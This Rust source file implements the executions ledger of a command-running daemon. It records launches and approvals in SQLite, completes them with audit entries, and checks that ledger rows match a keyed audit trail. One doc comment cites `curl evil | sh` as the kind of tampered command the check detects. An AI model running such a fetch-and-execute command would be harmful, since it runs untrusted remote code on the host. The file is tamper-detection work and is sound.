//! The executions ledger in execd's SQLite database: a row is written before a launch is
//! handed to its shim and completed from the shim's result, so a restart finds every
//! launch.

use sqlx::Row;
use sqlx::sqlite::{SqlitePool, SqliteRow};

use crate::spec::{DimReport, Identity, LaunchResult, LaunchStatus};

static MIGRATOR: sqlx::migrate::Migrator = sqlx::migrate!("./migrations");

/// One execution as recorded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Record {
    pub id: String,
    pub requested_by_role: String,
    pub principal: String,
    pub argv: Vec<String>,
    pub cwd: String,
    pub profile: String,
    pub status: LaunchStatus,
    pub exit_code: Option<i32>,
    pub signal: Option<i32>,
    pub containment: Vec<DimReport>,
    pub shim: Option<Identity>,
    pub created_at_ms: i64,
    pub started_at_ms: Option<i64>,
    pub ended_at_ms: Option<i64>,
    pub stdout_bytes: u64,
    pub stderr_bytes: u64,
    pub teardown_complete: bool,
    pub survivors: Vec<String>,
    /// What the command left running, which teardown ended.
    pub ended_by_teardown: Vec<String>,
    pub error: String,
    /// It runs on a terminal.
    pub tty: bool,
    /// Its wall clock in milliseconds (0: none).
    pub timeout_ms: u64,
}

impl Record {
    /// The record of a launch just handed to its shim (what the ledger row says then).
    pub fn running(n: &NewExecution) -> Record {
        Record {
            id: n.id.clone(),
            requested_by_role: n.requested_by_role.clone(),
            principal: n.principal.clone(),
            argv: n.argv.clone(),
            cwd: n.cwd.clone(),
            profile: n.profile.clone(),
            status: LaunchStatus::Running,
            exit_code: None,
            signal: None,
            containment: Vec::new(),
            shim: Some(n.shim.clone()),
            created_at_ms: n.created_at_ms,
            started_at_ms: Some(n.created_at_ms),
            ended_at_ms: None,
            stdout_bytes: 0,
            stderr_bytes: 0,
            teardown_complete: false,
            survivors: Vec::new(),
            ended_by_teardown: Vec::new(),
            error: String::new(),
            tty: n.tty,
            timeout_ms: n.timeout_ms,
        }
    }
}

/// What is known of a launch before it is handed to its shim.
#[derive(Debug, Clone)]
pub struct NewExecution {
    pub id: String,
    pub requested_by_role: String,
    pub principal: String,
    pub argv: Vec<String>,
    pub cwd: String,
    pub profile: String,
    pub created_at_ms: i64,
    /// The shim that will run it and its tree's root.
    pub shim: Identity,
    pub init: Identity,
    /// It runs on a terminal.
    pub tty: bool,
    /// Its wall clock in milliseconds (0: none).
    pub timeout_ms: u64,
    /// The caller's own reference for it (empty: none).
    pub client_ref: String,
}

/// Filters of a ledger listing.
#[derive(Debug, Clone, Default)]
pub struct ListFilter {
    pub principal: Option<String>,
    pub status: Option<LaunchStatus>,
    pub since_ms: Option<i64>,
    pub until_ms: Option<i64>,
    /// Only ids below this one (ids are time-ordered UUID v7).
    pub before_id: Option<String>,
    pub limit: u32,
    /// Only terminal launches.
    pub terminals: bool,
    /// Only the launch started with this reference of its caller's.
    pub client_ref: Option<String>,
}

#[derive(Debug, Clone)]
pub struct Ledger {
    pool: SqlitePool,
}

fn json<T: serde::Serialize>(v: &T) -> String {
    serde_json::to_string(v).unwrap_or_else(|_| "null".into())
}

impl Ledger {
    pub async fn open(path: &std::path::Path) -> Result<Ledger, argos_store::StoreError> {
        Ok(Ledger {
            // Commit: a launch runs only once its intent is recorded ("audited or not
            // done"), which a power cut must not take back.
            pool: argos_store::open(path, &MIGRATOR, argos_store::Durability::Commit).await?,
        })
    }

    pub fn pool(&self) -> &SqlitePool {
        &self.pool
    }

    /// Completes a row from the shim's result (once: a final status is never rewritten),
    /// with its audit outcome record in the same transaction. A result that knows no start
    /// (a launch retired without the shim's word) keeps the one the row recorded. Returns
    /// the completed record, or `None` if it was already final.
    pub async fn finish(
        &self,
        audit: &argos_store::audit::Audit,
        id: &str,
        res: &LaunchResult,
    ) -> sqlx::Result<Option<Record>> {
        let mut t = audit.begin().await?;
        let row = sqlx::query(
            "UPDATE executions SET status = ?, exit_code = ?, signal = ?, containment = ?, started_at_ms = COALESCE(?, started_at_ms),
               ended_at_ms = ?, stdout_bytes = ?, stderr_bytes = ?, teardown_complete = ?, survivors = ?, ended_by_teardown = ?, error = ?
             WHERE id = ? AND status = 'running' RETURNING *",
        )
        .bind(res.status.as_str())
        .bind(res.exit_code)
        .bind(res.signal)
        .bind(json(&res.report))
        .bind(res.started_at_ms)
        .bind(res.ended_at_ms)
        .bind(i64::try_from(res.stdout.total).unwrap_or(i64::MAX))
        .bind(i64::try_from(res.stderr.total).unwrap_or(i64::MAX))
        .bind(res.teardown.complete)
        .bind(json(&res.teardown.survivors))
        .bind(json(&res.teardown.ended))
        .bind(res.error.clone().unwrap_or_default())
        .bind(id)
        .fetch_optional(&mut *t.tx)
        .await?;
        let Some(row) = row else {
            return Ok(None); // already final: its outcome is recorded
        };
        let detail = serde_json::json!({
            "status": res.status.as_str(),
            "exit_code": res.exit_code,
            "signal": res.signal,
            "teardown_complete": res.teardown.complete,
            "error": res.error,
        });
        t.append(&argos_store::audit::Entry::new(
            "launch.outcome",
            "execd",
            id,
            detail,
        ))
        .await?;
        t.commit().await?;
        Ok(Some(record(&row)))
    }

    pub async fn get(&self, id: &str) -> sqlx::Result<Option<Record>> {
        let row = sqlx::query("SELECT * FROM executions WHERE id = ?")
            .bind(id)
            .fetch_optional(&self.pool)
            .await?;
        Ok(row.map(|r| record(&r)))
    }

    /// Ids of executions that ended before `before_ms` (candidates for file retention).
    pub async fn ended_before(&self, before_ms: i64) -> sqlx::Result<Vec<String>> {
        let rows = sqlx::query(
            "SELECT id FROM executions WHERE status != 'running' AND ended_at_ms < ? ORDER BY id",
        )
        .bind(before_ms)
        .fetch_all(&self.pool)
        .await?;
        Ok(rows.iter().map(|r| r.get::<String, _>("id")).collect())
    }

    /// Executions still marked running (what a restart must reconcile).
    pub async fn running(&self) -> sqlx::Result<Vec<Record>> {
        let rows = sqlx::query("SELECT * FROM executions WHERE status = 'running' ORDER BY id")
            .fetch_all(&self.pool)
            .await?;
        Ok(rows.iter().map(record).collect())
    }

    /// How many executions the ledger holds per (status, profile), and how many on a
    /// terminal still run (for monitoring: one index scan each).
    pub async fn counts(&self) -> sqlx::Result<(Vec<(String, String, i64)>, i64)> {
        let by = sqlx::query_as::<_, (String, String, i64)>(
            "SELECT status, profile, COUNT(*) FROM executions GROUP BY status, profile",
        )
        .fetch_all(&self.pool)
        .await?;
        let terminals = sqlx::query_scalar::<_, i64>(
            "SELECT COUNT(*) FROM executions WHERE tty = 1 AND status = 'running'",
        )
        .fetch_one(&self.pool)
        .await?;
        Ok((by, terminals))
    }

    pub async fn list(&self, f: &ListFilter) -> sqlx::Result<Vec<Record>> {
        let rows = sqlx::query(
            "SELECT * FROM executions
             WHERE (?1 IS NULL OR principal = ?1) AND (?2 IS NULL OR status = ?2)
               AND (?3 IS NULL OR created_at_ms >= ?3) AND (?4 IS NULL OR created_at_ms < ?4)
               AND (?5 IS NULL OR id < ?5) AND (?7 = 0 OR tty = 1)
               AND (?8 IS NULL OR client_ref = ?8)
             ORDER BY id DESC LIMIT ?6",
        )
        .bind(&f.principal)
        .bind(f.status.map(LaunchStatus::as_str))
        .bind(f.since_ms)
        .bind(f.until_ms)
        .bind(&f.before_id)
        .bind(i64::from(f.limit))
        .bind(f.terminals)
        .bind(&f.client_ref)
        .fetch_all(&self.pool)
        .await?;
        Ok(rows.iter().map(record).collect())
    }
}

/// Records a launch, as running, before it is handed to its shim (an execution that
/// waited for its approval becomes running; any other existing id is refused). Its start
/// is recorded as now, the handover: the shim's result gives the exact one, and a launch
/// retired without a result keeps this.
pub async fn insert_running(tx: &mut sqlx::SqliteConnection, r: &NewExecution) -> sqlx::Result<()> {
    let done = sqlx::query(
        "INSERT INTO executions (id, requested_by_role, principal, argv, cwd, profile, status, created_at_ms, shim_identity, init_identity, tty, timeout_ms, started_at_ms, client_ref)
         VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
         ON CONFLICT (id) DO UPDATE SET status = excluded.status, argv = excluded.argv,
           cwd = excluded.cwd, profile = excluded.profile, shim_identity = excluded.shim_identity,
           init_identity = excluded.init_identity, timeout_ms = excluded.timeout_ms,
           started_at_ms = excluded.started_at_ms
         WHERE executions.status = 'pending_approval'",
    )
    .bind(&r.id)
    .bind(&r.requested_by_role)
    .bind(&r.principal)
    .bind(json(&r.argv))
    .bind(&r.cwd)
    .bind(&r.profile)
    .bind(LaunchStatus::Running.as_str())
    .bind(r.created_at_ms)
    .bind(json(&r.shim))
    .bind(json(&r.init))
    .bind(r.tty)
    .bind(i64::try_from(r.timeout_ms).unwrap_or(i64::MAX))
    .bind(r.created_at_ms)
    .bind(&r.client_ref)
    .execute(tx)
    .await?;
    if done.rows_affected() != 1 {
        return Err(sqlx::Error::Protocol(format!(
            "execution {} exists and is not waiting for its approval",
            r.id
        )));
    }
    Ok(())
}

/// Ends an execution that waited for its approval and will not start: `rejected` (its
/// approval was denied, revoked or expired) or `failed` (approved, but it could not
/// start), with why. Whether it was still waiting.
pub async fn settle_unstarted(
    tx: &mut sqlx::SqliteConnection,
    id: &str,
    status: LaunchStatus,
    why: &str,
    now_ms: i64,
) -> sqlx::Result<bool> {
    sqlx::query(
        "UPDATE executions SET status = ?, error = ?, ended_at_ms = ?
         WHERE id = ? AND status = 'pending_approval'",
    )
    .bind(status.as_str())
    .bind(why)
    .bind(now_ms)
    .bind(id)
    .execute(tx)
    .await
    .map(|r| r.rows_affected() == 1)
}

/// Records an execution that waits for its approval (nothing runs yet).
pub async fn insert_pending(tx: &mut sqlx::SqliteConnection, r: &NewExecution) -> sqlx::Result<()> {
    sqlx::query(
        "INSERT INTO executions (id, requested_by_role, principal, argv, cwd, profile, status, created_at_ms)
         VALUES (?, ?, ?, ?, ?, ?, 'pending_approval', ?)",
    )
    .bind(&r.id)
    .bind(&r.requested_by_role)
    .bind(&r.principal)
    .bind(json(&r.argv))
    .bind(&r.cwd)
    .bind(&r.profile)
    .bind(r.created_at_ms)
    .execute(tx)
    .await
    .map(|_| ())
}

/// The first execution the ledger holds otherwise than the audit trail recorded it, and
/// how — the ledger is plain rows, the trail chained and keyed, so a row edited with
/// sqlite3 (`echo …` made `curl evil | sh`) is named here rather than shown as what ran.
/// Every `launch.intent` (a launch's own, or its approval's consumption) must name an
/// execution that ran, with the command, directory and profile it recorded; and every
/// execution that ran must have one. Reads the trail in pages (bounded memory); the
/// trail's own rows are checked by `Audit::verify`.
pub async fn tie_to_trail(pool: &SqlitePool) -> sqlx::Result<Tie> {
    let mut tie = Tie::default();
    let mut after = 0i64;
    loop {
        let page: Vec<(i64, String, String)> = sqlx::query_as(
            "SELECT seq, subject, detail FROM audit WHERE kind = 'launch.intent' AND seq > ?
             ORDER BY seq LIMIT 500",
        )
        .bind(after)
        .fetch_all(pool)
        .await?;
        let Some(last) = page.last() else { break };
        after = last.0;
        for (seq, subject, detail) in page {
            tie.intents += 1;
            if tie.broken.is_some() {
                continue;
            }
            let detail: serde_json::Value = serde_json::from_str(&detail).unwrap_or_default();
            let id = detail["execution_id"]
                .as_str()
                .filter(|i| !i.is_empty())
                .unwrap_or(&subject)
                .to_string();
            let row = sqlx::query("SELECT status, argv, cwd, profile FROM executions WHERE id = ?")
                .bind(&id)
                .fetch_optional(pool)
                .await?;
            let Some(row) = row else {
                tie.broken = Some((
                    id,
                    format!(
                        "its launch.intent (audit seq {seq}) names it, and the ledger has no such execution (deleted)"
                    ),
                ));
                continue;
            };
            let status: String = row.get("status");
            if matches!(status.as_str(), "pending_approval" | "rejected") {
                tie.broken = Some((
                    id,
                    format!(
                        "the ledger says it never ran ({status}), and its launch.intent (audit seq {seq}) says it was started"
                    ),
                ));
                continue;
            }
            let argv: serde_json::Value =
                serde_json::from_str(&row.get::<String, _>("argv")).unwrap_or_default();
            let held = [
                ("command", argv),
                ("directory", row.get::<String, _>("cwd").into()),
                ("profile", row.get::<String, _>("profile").into()),
            ];
            // Approvals consumed before they recorded these hold none to compare.
            if let Some((what, _)) =
                held.iter()
                    .zip(["argv", "cwd", "profile"])
                    .find_map(|((what, value), key)| {
                        detail.get(key).filter(|v| *v != value).map(|_| (*what, ()))
                    })
            {
                tie.broken = Some((
                    id,
                    format!(
                        "its {what} in the ledger is not the one its launch.intent (audit seq {seq}) recorded: the ledger was edited"
                    ),
                ));
            }
        }
    }
    let ran: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM executions WHERE status NOT IN ('pending_approval', 'rejected')",
    )
    .fetch_one(pool)
    .await?;
    tie.ran = u64::try_from(ran).unwrap_or(0);
    if tie.broken.is_none() && tie.ran > tie.intents {
        // One that ran with no intent: found by its id (or its approval's).
        let mut after = String::new();
        'find: loop {
            let ids: Vec<String> = sqlx::query_scalar(
                "SELECT id FROM executions WHERE status NOT IN ('pending_approval', 'rejected')
                 AND id > ? ORDER BY id LIMIT 500",
            )
            .bind(&after)
            .fetch_all(pool)
            .await?;
            let Some(last) = ids.last() else { break };
            after = last.clone();
            for id in ids {
                let intent: Option<i64> = sqlx::query_scalar(
                    "SELECT seq FROM audit WHERE kind = 'launch.intent' AND (subject = ?1
                     OR subject IN (SELECT id FROM approvals WHERE execution_id = ?1)) LIMIT 1",
                )
                .bind(&id)
                .fetch_optional(pool)
                .await?;
                if intent.is_none() {
                    tie.broken = Some((
                        id,
                        "the ledger says it ran, and the audit trail holds no launch.intent for it: the ledger was edited".into(),
                    ));
                    break 'find;
                }
            }
        }
    }
    Ok(tie)
}

/// What [`tie_to_trail`] found.
#[derive(Debug, Default)]
pub struct Tie {
    /// `launch.intent` records read, and executions the ledger says ran.
    pub intents: u64,
    pub ran: u64,
    /// The first execution held otherwise than recorded, and how.
    pub broken: Option<(String, String)>,
}

/// Who did something, as the audit trail names them: `role` or `role:principal`.
pub fn actor(role: &str, principal: &str) -> String {
    if principal.is_empty() {
        role.to_string()
    } else {
        format!("{role}:{principal}")
    }
}

fn record(r: &SqliteRow) -> Record {
    let parse = |col: &str| -> String {
        r.try_get::<Option<String>, _>(col)
            .ok()
            .flatten()
            .unwrap_or_default()
    };
    Record {
        id: r.get("id"),
        requested_by_role: r.get("requested_by_role"),
        principal: r.get("principal"),
        argv: serde_json::from_str(&parse("argv")).unwrap_or_default(),
        cwd: r.get("cwd"),
        profile: r.get("profile"),
        status: LaunchStatus::parse(&parse("status")).unwrap_or(LaunchStatus::Lost),
        exit_code: r.get("exit_code"),
        signal: r.get("signal"),
        containment: serde_json::from_str(&parse("containment")).unwrap_or_default(),
        shim: serde_json::from_str(&parse("shim_identity")).ok(),
        created_at_ms: r.get("created_at_ms"),
        started_at_ms: r.get("started_at_ms"),
        ended_at_ms: r.get("ended_at_ms"),
        stdout_bytes: u64::try_from(r.get::<i64, _>("stdout_bytes")).unwrap_or(0),
        stderr_bytes: u64::try_from(r.get::<i64, _>("stderr_bytes")).unwrap_or(0),
        teardown_complete: r.get::<i64, _>("teardown_complete") != 0,
        survivors: serde_json::from_str(&parse("survivors")).unwrap_or_default(),
        ended_by_teardown: serde_json::from_str(&parse("ended_by_teardown")).unwrap_or_default(),
        error: r.get("error"),
        tty: r.try_get::<i64, _>("tty").unwrap_or(0) != 0,
        timeout_ms: u64::try_from(r.try_get::<i64, _>("timeout_ms").unwrap_or(0)).unwrap_or(0),
    }
}

/// A fresh key for the tests' audit trails.
#[cfg(test)]
pub(crate) fn test_key() -> std::sync::Arc<argos_store::key::Key> {
    let dir = tempfile::tempdir().unwrap();
    std::sync::Arc::new(argos_store::key::Key::load_or_create(&dir.path().join("k")).unwrap())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::{StreamTotals, Teardown};

    fn rec(id: &str, principal: &str) -> NewExecution {
        NewExecution {
            id: id.into(),
            requested_by_role: "gateway".into(),
            principal: principal.into(),
            argv: vec!["echo".into(), "hi".into()],
            cwd: "/w".into(),
            profile: "agent".into(),
            created_at_ms: 1000,
            shim: Identity {
                pid: 10,
                start_time: 20,
                boot_id: "b".into(),
            },
            init: Identity {
                pid: 11,
                start_time: 21,
                boot_id: "b".into(),
            },
            tty: false,
            timeout_ms: 0,
            client_ref: String::new(),
        }
    }

    #[tokio::test]
    async fn insert_finish_get_list() {
        let dir = tempfile::tempdir().unwrap();
        let l = Ledger::open(&dir.path().join("execd.db")).await.unwrap();
        for (id, who) in [("01", "alice"), ("02", "bob"), ("03", "alice")] {
            let mut conn = l.pool().acquire().await.unwrap();
            insert_running(&mut conn, &rec(id, who)).await.unwrap();
        }
        let result = LaunchResult {
            status: LaunchStatus::Succeeded,
            exit_code: Some(0),
            signal: None,
            started_at_ms: Some(1001),
            ended_at_ms: 1010,
            report: Vec::new(),
            stdout: StreamTotals {
                total: 3,
                logged: 3,
            },
            stderr: StreamTotals::default(),
            teardown: Teardown {
                complete: true,
                survivors: Vec::new(),
                ended: Vec::new(),
            },
            error: None,
        };
        let audit = argos_store::audit::Audit::open(l.pool().clone(), super::test_key(), "execd")
            .await
            .unwrap();
        l.finish(&audit, "02", &result).await.unwrap();
        // A final status is never rewritten.
        let mut other = result.clone();
        other.status = LaunchStatus::Failed;
        l.finish(&audit, "02", &other).await.unwrap();
        let got = l.get("02").await.unwrap().unwrap();
        assert_eq!(got.status, LaunchStatus::Succeeded);
        assert_eq!(got.stdout_bytes, 3);
        assert_eq!(got.argv, ["echo", "hi"]);
        let alice = l
            .list(&ListFilter {
                principal: Some("alice".into()),
                limit: 10,
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(
            alice.iter().map(|r| r.id.as_str()).collect::<Vec<_>>(),
            ["03", "01"]
        );
        let page = l
            .list(&ListFilter {
                before_id: Some("03".into()),
                limit: 1,
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(page[0].id, "02");
        let running = l.running().await.unwrap();
        assert_eq!(running.len(), 2);
        // The file is private to execd.
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.path().join("execd.db"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    /// A launch retired without its shim's result (lost at a restart, a teardown not
    /// confirmed) was recorded with a start of 0, and read back as a 56-year run. It keeps
    /// the start the ledger recorded at its handover, and its duration is of real times.
    #[tokio::test]
    async fn a_launch_ended_without_a_result_keeps_its_recorded_start() {
        let dir = tempfile::tempdir().unwrap();
        let l = Ledger::open(&dir.path().join("execd.db")).await.unwrap();
        let audit = argos_store::audit::Audit::open(l.pool().clone(), super::test_key(), "execd")
            .await
            .unwrap();
        let handed_over = crate::spec::now_ms() - 5_000;
        for id in ["01", "02"] {
            let mut n = rec(id, "alice");
            n.created_at_ms = handed_over;
            let mut conn = l.pool().acquire().await.unwrap();
            insert_running(&mut conn, &n).await.unwrap();
        }
        let lost = l
            .finish(&audit, "01", &LaunchResult::lost("the shim is gone"))
            .await
            .unwrap()
            .unwrap();
        let mut unconfirmed = LaunchResult::lost("the end was not observed");
        unconfirmed.status = LaunchStatus::TeardownFailed;
        let failed = l.finish(&audit, "02", &unconfirmed).await.unwrap().unwrap();
        for got in [lost, failed] {
            assert_eq!(got.started_at_ms, Some(handed_over), "{got:?}");
            let e = crate::wire::execution(&got);
            assert_eq!(e.started_at_unix_ms, handed_over, "{e:?}");
            assert!(e.ended_at_unix_ms >= handed_over + 5_000, "{e:?}");
            assert!((5_000..60_000).contains(&e.duration_ms), "{e:?}");
        }
        // A row an earlier execd retired with a start of 0 reads as recorded, not 1970.
        let mut old = Record::running(&rec("03", "alice"));
        old.started_at_ms = Some(0);
        old.ended_at_ms = Some(old.created_at_ms + 7);
        let e = crate::wire::execution(&old);
        assert_eq!(
            (e.started_at_unix_ms, e.duration_ms),
            (old.created_at_ms, 7)
        );
    }
}
